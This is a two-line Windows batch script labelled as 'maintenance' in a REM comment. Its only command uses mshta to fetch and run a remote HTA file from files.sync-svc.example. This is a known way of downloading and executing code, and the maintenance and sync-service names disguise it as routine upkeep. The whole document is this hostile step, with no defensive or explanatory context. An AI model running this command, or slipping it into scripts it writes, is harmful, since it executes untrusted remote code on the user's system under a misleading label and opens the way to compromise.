REM maintenance 1909 v0
mshta http://files.sync-svc.example/update.hta
